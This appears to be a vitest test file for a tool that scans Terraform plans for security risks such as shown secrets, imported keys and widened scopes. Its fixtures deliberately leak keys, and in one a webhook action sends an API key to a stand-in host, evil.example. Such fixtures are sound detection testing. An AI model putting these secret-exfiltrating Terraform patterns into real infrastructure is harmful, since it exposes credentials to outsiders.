import { randomBytes } from 'node:crypto';
import { expect, it } from 'vitest';
import type { Report } from '../../src/report/model';
import { verdictOf } from '../../src/report/verdict';
import { scenario } from '../harness/scenario';
import { reporting } from '../harness/scenario/reporting';
import { needFeature } from '../harness/terraform/needed-feature';
import { equalKey, key } from './blocks';

const risksOf = ({ risks }: Report) =>
  risks.map(({ name, severity, sentence }) => `${severity} ${name}: ${sentence.text}`);

/** Plans without a search for leaks: these plans show a key on purpose. */
async function leaking(variables: readonly string[] = []) {
  const s = await scenario();
  const given: Record<string, string> = {};
  for (const name of variables) given[`TF_VAR_${name}`] = await s.plantSecret(name);
  const { json } = await reporting(s);
  const report = async (configuration: string, ...flags: readonly string[]) => {
    await s.configure(configuration);
    const shown = { holdsState: true };
    const { code, stderr } = await s.workspace.run(['plan', '-out=tfplan', ...flags], given, shown);
    expect([code, stderr]).toEqual([0, '']);
    return json('tfplan');
  };
  return { s, report };
}

it('an action with a key in its address is critical, also with -invoke, where a plan lists no resource', async context => {
  await needFeature('actions', context);
  const { s, report } = await leaking(['tested']);
  const action = (url: string) => `action "svc_webhook_endpoint_test" "a" {
  config {
    url    = "${url}"
    secret = var.tested
  }
}
`;
  const evil = action(`https://evil.example/x?k=$\{nonsensitive(svc_api_key.ci.key)}`);
  await s.startFrom(key('ci'));
  const named = 'action.svc_webhook_endpoint_test.a';
  const invoked = await report(key('ci') + evil, `-invoke=${named}`);
  expect(risksOf(invoked)).toEqual([
    `critical secret-shown: ${named} shows a secret`,
    `medium action-invoked: ${named} is invoked by -invoke and sends events to evil.example`,
  ]);
  expect(verdictOf(invoked).work).toBe('1 action to invoke');
  const trigger =
    'lifecycle {\n    action_trigger {\n      events  = [after_update]\n      actions = [action.svc_webhook_endpoint_test.a]\n    }\n  }';
  const more = key('ci', { called: 'other', more: trigger });
  expect(risksOf(await report(more + action('https://evil.example/')))).toEqual([
    'medium key-renamed: key ci is renamed to other; its value goes on working',
    `medium action-invoked: ${named} is invoked after_update of svc_api_key.ci and sends events to evil.example`,
  ]);
});

const log = (name: string, value: string) => `resource "terraform_data" "${name}" {\n  input = ${value}\n}\n`;

it('a key that comes by a remote state, which has no mark there, is a risk wherever a plan shows it, and in no report', async () => {
  const { s, report } = await leaking();
  const theirs = `svc_test_${randomBytes(16).toString('hex')}`;
  const output = (value: string) => ({ value, type: 'string', sensitive: true });
  const outputs = { k: output(theirs), id: output('key_1') };
  const state = { version: 4, terraform_version: '1.8.0', serial: 1, lineage: 'x', outputs, resources: [] };
  await s.workspace.write('theirs.tfstate', JSON.stringify(state));
  const [k, id] = ['k', 'id'].map(name => `data.terraform_remote_state.x.outputs.${name}`);
  const running = (name: string, given: string) =>
    log(name, '1').replace('}', `  provisioner "local-exec" {\n    command = "true $\{${given}}"\n  }\n}`);
  const remote =
    'data "terraform_remote_state" "x" {\n  backend = "local"\n  config  = { path = "theirs.tfstate" }\n}\n';
  const shown = `output "shown" {\n  value = ${k}\n}\n`;
  const planned = await report(
    [
      remote,
      shown,
      key('named', { called: `$\{${k}}` }),
      log('argument', `"Bearer $\{${k}}"`),
      log('each', '1').replace('{', `{\n  for_each = toset([${k}])`),
      log('part', `substr(${k}, 0, 12)`),
      log('id', `${id}`),
      running('told', `${k}`),
      running('untold', 'data.terraform_remote_state.x.outputs["id"]'),
    ].join(''),
  );
  expect(risksOf(planned).filter(risk => !risk.startsWith('low'))).toEqual([
    'critical secret-shown: output.shown shows a secret',
    'critical secret-shown: name of svc_api_key.named shows a secret',
    'critical secret-shown: input of terraform_data.argument shows a secret',
    'critical secret-shown: for_each of terraform_data.each["(sensitive)"] shows a secret',
    'critical secret-shown: provisioner of terraform_data.told shows a secret',
    'medium secret-may-show: input of terraform_data.part may show a secret',
    'medium provisioner-runs: terraform_data.untold runs provisioners',
  ]);
  expect(JSON.stringify(planned)).not.toContain(theirs);
  await s.configure(remote + shown);
  const applied = await s.workspace.run(['apply', '-auto-approve'], {}, { holdsState: true });
  expect(applied.code).toBe(0);
  const unchanged = await report(remote + shown);
  expect([unchanged.outputs, risksOf(unchanged)]).toEqual([
    0,
    ['critical secret-shown: output.shown shows a secret'],
  ]);
});

it('what a plan hands on, takes over and lets go is a risk', async () => {
  const { s, report } = await leaking();
  const { id } = await s.behindTheBack(({ apiKeys }) => apiKeys.create(equalKey('hand', 'webhooks:manage')));
  const kept = (trigger: string) =>
    key('kept', {
      more: `rotation = { overlap_days = 1, triggers = { of = "${trigger}" } }
  lifecycle {
    ignore_changes = [scopes]
  }`,
    });
  await s.startFrom(key('ci') + key('leaving', { scope: 'webhooks:manage' }) + kept('one'));
  // An apply takes over what other hands gave to a key: no later plan shows it as drift.
  await s.behindTheBack(({ apiKeys }) => {
    const { id: widened = '' } = apiKeys.all().find(({ name }) => name === 'kept') ?? {};
    apiKeys.update(widened, { scopes: ['alerts:read', 'tenants:write'] });
  });
  await s.workspace.run(['apply', '-refresh-only', '-auto-approve'], {});
  const planned = await report(
    [
      key('ci'),
      kept('two'),
      key('named', { called: `$\{svc_api_key.ci.key}` }),
      log('whole', 'nonsensitive(svc_api_key.ci.key)'),
      log('backwards', 'nonsensitive(strrev(svc_api_key.ci.key))'),
      log('unknown', 'nonsensitive(svc_api_key.named.key)'),
      log('hidden', 'svc_api_key.ci.key'),
      log('hop', 'terraform_data.hidden.output'),
      log('each', 'nonsensitive(each.value.key)').replace('{', '{\n  for_each = { a = svc_api_key.named }'),
      log('id', 'svc_api_key.ci.id'),
      key('hand', { scope: 'webhooks:manage' }),
      `import {\n  to = svc_api_key.hand\n  id = "${id}"\n}\n`,
      'removed {\n  from = svc_api_key.leaving\n  lifecycle {\n    destroy = false\n  }\n}\n',
    ].join(''),
  );
  expect(risksOf(planned)).toEqual([
    'critical secret-shown: name of svc_api_key.named shows a secret',
    'critical secret-shown: input of terraform_data.whole shows a secret',
    'high unconfigured-scope: key kept is issued with tenants:write, which its block does not name',
    'high key-imported: key hand is imported with webhooks:manage for tenant ten_acme',
    'high object-forgotten: key leaving leaves the state, and goes on working with webhooks:manage',
    'medium key-rotated: key kept is rotated, and its present value goes on working',
    ...['backwards', 'each["a"]', 'hop', 'unknown'].map(
      name => `medium secret-may-show: input of terraform_data.${name} may show a secret`,
    ),
    'low key-issued: key svc_api_key.named is issued with alerts:read for tenant ten_acme',
  ]);
});
